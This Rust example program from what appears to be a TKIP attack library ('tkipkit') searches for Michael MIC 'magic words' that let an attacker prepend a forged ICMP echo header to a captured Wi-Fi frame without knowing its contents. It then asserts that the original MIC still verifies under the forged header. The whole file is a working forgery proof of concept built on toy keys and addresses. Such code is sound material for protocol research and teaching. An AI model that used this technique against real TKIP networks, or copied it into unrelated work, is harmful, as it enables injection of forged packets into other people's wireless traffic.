//! Find magic words for an ICMP echo prefix with the filtered search, then
//! show the captured frame's MIC still verifies behind it.

use std::net::Ipv4Addr;
use std::time::Instant;

use tkipkit::addr::{Direction, MacAddr};
use tkipkit::attacks::{icmp_insert_template, solve_reset};
use tkipkit::collision::{Anchor, SearchOptions};
use tkipkit::michael::{mic_compute, MicHeader, MicKey};

fn main() {
    let key = MicKey::new(0xdead_beef, 0x0bad_cafe, Direction::ApToClient);
    let client = MacAddr([2, 0, 0, 0, 0, 0x10]);
    let ap = MacAddr([2, 0, 0, 0, 0, 0x01]);
    // The captured frame went out on priority 0; the forged one uses 5.
    let original = MicHeader::new(client, ap, 0).unwrap();
    let forged = original.with_priority(5).unwrap();

    let secret = b"\xaa\xaa\x03\x00\x00\x00\x08\x00 some frame we cannot read".to_vec();
    let mic = mic_compute(&key, &original, &secret).unwrap();

    let template = icmp_insert_template(
        Ipv4Addr::new(203, 0, 113, 7),
        Ipv4Addr::new(10, 0, 0, 23),
        0x4b4b,
        0,
        16 + secret.len() + 8,
    );
    let t0 = Instant::now();
    let sol = solve_reset(&key, &forged, &original, &template, 1 << 16, Anchor::KeyState, 8, &SearchOptions::default())
        .unwrap();
    println!(
        "variant {} mw1={:08x} mw2={:08x} after {} words ({:.3}% of the domain) in {:.0} ms",
        sol.variant_id,
        sol.words.mw1,
        sol.words.mw2,
        sol.position,
        sol.position as f64 / 2f64.powi(32) * 100.0,
        t0.elapsed().as_secs_f64() * 1e3
    );

    let mut spliced = sol.spliced.clone();
    spliced.extend_from_slice(&secret);
    let forged_mic = mic_compute(&key, &forged, &spliced).unwrap();
    println!("original MIC {}  spliced MIC {}", hex::encode(mic), hex::encode(forged_mic));
    assert_eq!(mic, forged_mic);
}
